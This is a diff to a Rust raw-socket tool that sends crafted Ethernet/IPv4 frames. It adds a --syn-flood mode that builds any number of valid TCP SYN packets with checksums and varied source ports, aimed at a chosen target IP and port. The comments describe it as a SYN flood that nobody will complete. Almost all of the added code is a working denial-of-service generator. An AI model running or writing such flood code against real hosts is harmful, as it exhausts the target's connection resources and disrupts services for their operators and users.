@@ -27,6 +27,13 @@ struct Args {
     /// Our IPv4 address
     #[arg(long)]
     src_ip: Ipv4Addr,
+    /// Instead of malformed frames, send this many well-formed SYNs to
+    /// --syn-port from --src-ip (a SYN flood: nobody will complete them)
+    #[arg(long, value_name = "N")]
+    syn_flood: Option<u32>,
+    /// The port the SYNs go to
+    #[arg(long, default_value_t = 80)]
+    syn_port: u16,
 }
 
 fn checksum(data: &[u8]) -> u16 {
@@ -100,6 +107,29 @@ fn frames(args: &Args, src_mac: [u8; 6]) -> Vec<(&'static str, Vec<u8>)> {
     out
 }
 
+/// `n` SYNs from distinct source ports, with valid checksums.
+fn syn_flood(args: &Args, src_mac: [u8; 6], n: u32) -> Vec<(&'static str, Vec<u8>)> {
+    (0..n)
+        .map(|i| {
+            let mut t = vec![0u8; 20];
+            t[0..2].copy_from_slice(&(20000 + i as u16).to_be_bytes());
+            t[2..4].copy_from_slice(&args.syn_port.to_be_bytes());
+            t[4..8].copy_from_slice(&(i.wrapping_mul(7919)).to_be_bytes());
+            t[12] = 5 << 4;
+            t[13] = 0x02;
+            t[14..16].copy_from_slice(&65535u16.to_be_bytes());
+            let mut pseudo = Vec::new();
+            pseudo.extend_from_slice(&args.src_ip.octets());
+            pseudo.extend_from_slice(&args.dst_ip.octets());
+            pseudo.extend_from_slice(&[0, 6, 0, 20]);
+            pseudo.extend_from_slice(&t);
+            let sum = checksum(&pseudo);
+            t[16..18].copy_from_slice(&sum.to_be_bytes());
+            ("a SYN nobody will complete", ipv4(args, src_mac, 6, &t))
+        })
+        .collect()
+}
+
 fn main() -> Result<(), Box<dyn std::error::Error>> {
     let args = Args::parse();
     let mac_text = std::fs::read_to_string(format!("/sys/class/net/{}/address", args.iface))?;
@@ -123,7 +153,10 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     addr.sll_ifindex = ifindex as i32;
     addr.sll_halen = 6;
     addr.sll_addr[..6].copy_from_slice(&args.dst_mac.0);
-    let list = frames(&args, src_mac.0);
+    let list = match args.syn_flood {
+        Some(n) => syn_flood(&args, src_mac.0, n),
+        None => frames(&args, src_mac.0),
+    };
     for (what, frame) in &list {
         // SAFETY: `frame` is a live buffer of frame.len() bytes and `addr` a
         // live sockaddr_ll whose size we pass; the fd is ours.
@@ -144,6 +177,6 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     }
     // SAFETY: closes our own fd once.
     unsafe { libc::close(fd) };
-    println!("sent {} malformed frames", list.len());
+    println!("sent {} {} frames", list.len(), if args.syn_flood.is_some() { "SYN" } else { "malformed" });
     Ok(())
 }
